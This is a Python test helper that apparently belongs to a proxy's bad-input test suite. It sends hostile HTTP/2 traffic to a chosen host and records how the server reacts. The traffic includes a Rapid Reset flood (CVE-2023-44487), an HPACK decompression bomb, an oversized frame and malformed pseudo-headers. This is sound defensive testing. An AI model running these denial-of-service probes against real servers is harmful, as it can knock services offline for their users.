"""Raw HTTP/2 clients that misbehave, for the bad-input tests:
`python -m tests.l7.h2_probe ATTACK HOST PORT [ARG]`.

  rapid-reset [N]   N times HEADERS (GET /slow/1000) then RST_STREAM(CANCEL) at once, in
                    writes of 20 streams (CVE-2023-44487)
  hpack-bomb        one HEADERS block that adds a 4000-byte field to the HPACK dynamic table,
                    then refers to it 1000 times (1 byte each: 4 MB once decoded)
  big-frame         a DATA frame header announcing 16 MB (more than SETTINGS_MAX_FRAME_SIZE),
                    then 64 KiB of it
  bad-pseudo KIND   a request with invalid pseudo-headers: unknown (":foo"), missing-path,
                    after-regular (a pseudo-header after a regular field), uppercase (a field
                    name in capitals), connection (a connection-specific field)

Prints one JSON line, what came back before the connection closed (or 5 s of silence):
{"goaway": error code name or null, "last_stream_id", "debug", "resets": {code name: count},
 "responses": HEADERS frames received, "closed": the proxy closed the connection}.
"""

from __future__ import annotations

import json
import select
import socket
import sys
import time
from typing import Any

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from hyperframe.frame import Frame, GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return hex(code)


class Reader:
    """Frames from the proxy, parsed as they come."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.buf = b""
        self.closed = False
        self.result: dict[str, Any] = {"goaway": None, "last_stream_id": None, "debug": "",
                                       "resets": {}, "responses": 0, "closed": False}

    def poll(self, timeout: float) -> None:
        """Read what is there (waiting up to `timeout` for the first byte)."""
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], timeout)
            if not ready:
                return
            timeout = 0
            try:
                data = self.sock.recv(65536)
            except (ConnectionResetError, BrokenPipeError):
                data = b""
            if not data:
                self.closed = self.result["closed"] = True
                return
            self.buf += data
            self._frames()

    def _frames(self) -> None:
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            if isinstance(frame, GoAwayFrame):
                self.result["goaway"] = _name(frame.error_code)
                self.result["last_stream_id"] = frame.last_stream_id
                self.result["debug"] = frame.additional_data.decode(errors="replace")
            elif isinstance(frame, RstStreamFrame):
                name = _name(frame.error_code)
                self.result["resets"][name] = self.result["resets"].get(name, 0) + 1
            elif isinstance(frame, HeadersFrame):
                self.result["responses"] += 1

    def until_closed(self, seconds: float = 5.0) -> dict[str, Any]:
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.poll(min(0.2, max(0.0, deadline - time.monotonic())))
        return self.result


def _send(sock: socket.socket, data: bytes, reader: Reader) -> bool:
    try:
        sock.sendall(data)
    except (BrokenPipeError, ConnectionResetError):
        reader.closed = reader.result["closed"] = True
        return False
    reader.poll(0)
    return not reader.closed


def _client() -> H2Connection:
    # Outbound checks off: the point is to send what a conforming client would not.
    return H2Connection(H2Configuration(client_side=True, header_encoding=None,
                                        validate_outbound_headers=False,
                                        normalize_outbound_headers=False))


def rapid_reset(sock: socket.socket, reader: Reader, host: str, n: int) -> None:
    conn = _client()
    conn.initiate_connection()
    _send(sock, conn.data_to_send(), reader)
    headers = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", host.encode()),
               (b":path", b"/slow/1000")]
    for i in range(n):
        sid = 1 + 2 * i
        conn.send_headers(sid, headers, end_stream=True)
        conn.reset_stream(sid, ErrorCodes.CANCEL)
        if i % 20 == 19 and not _send(sock, conn.data_to_send(), reader):
            return
    _send(sock, conn.data_to_send(), reader)


def _int(n: int, prefix: int, flags: int) -> bytes:
    """An HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
    top = (1 << prefix) - 1
    if n < top:
        return bytes([flags | n])
    out = bytearray([flags | top])
    n -= top
    while n >= 128:
        out.append((n & 0x7f) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def hpack_bomb(sock: socket.socket, reader: Reader, host: str) -> None:
    block = bytearray(b"\x82\x86\x84")  # :method GET, :scheme http, :path / (static table)
    authority = host.encode()
    block += b"\x01" + _int(len(authority), 7, 0) + authority  # :authority, not indexed
    name, value = b"x-bomb", b"b" * 4000
    block += b"\x40" + _int(len(name), 7, 0) + name + _int(len(value), 7, 0) + value
    block += b"\xbe" * 1000  # index 62: the entry just added
    headers = HeadersFrame(1, bytes(block), flags=["END_HEADERS", "END_STREAM"])
    _send(sock, PREFACE + SettingsFrame(0).serialize(), reader)
    _send(sock, headers.serialize(), reader)


def big_frame(sock: socket.socket, reader: Reader, host: str) -> None:
    conn = _client()
    conn.initiate_connection()
    conn.send_headers(1, [(b":method", b"POST"), (b":scheme", b"http"),
                          (b":authority", host.encode()), (b":path", b"/echo")])
    header = ((1 << 24) - 1).to_bytes(3, "big") + b"\x00\x00" + (1).to_bytes(4, "big")
    if _send(sock, conn.data_to_send() + header, reader):
        _send(sock, b"\0" * 65536, reader)


def bad_pseudo(sock: socket.socket, reader: Reader, host: str, kind: str) -> None:
    base = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", host.encode()),
            (b":path", b"/")]
    headers = {
        "unknown": [*base, (b":foo", b"bar")],
        "missing-path": base[:3],
        "after-regular": [*base[:3], (b"accept", b"*/*"), base[3]],
        "uppercase": [*base, (b"Accept", b"*/*")],
        "connection": [*base, (b"connection", b"keep-alive")],
    }[kind]
    conn = _client()
    conn.initiate_connection()
    conn.send_headers(1, headers, end_stream=True)
    _send(sock, conn.data_to_send(), reader)


def main() -> None:
    attack, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    arg = sys.argv[4] if len(sys.argv) > 4 else ""
    sock = socket.create_connection((host, port), timeout=10)
    reader = Reader(sock)
    if attack == "rapid-reset":
        rapid_reset(sock, reader, host, int(arg or 1000))
    elif attack == "hpack-bomb":
        hpack_bomb(sock, reader, host)
    elif attack == "big-frame":
        big_frame(sock, reader, host)
    elif attack == "bad-pseudo":
        bad_pseudo(sock, reader, host, arg)
    else:
        raise SystemExit(f"unknown attack {attack}")
    print(json.dumps(reader.until_closed()), flush=True)
    sock.close()


if __name__ == "__main__":
    main()
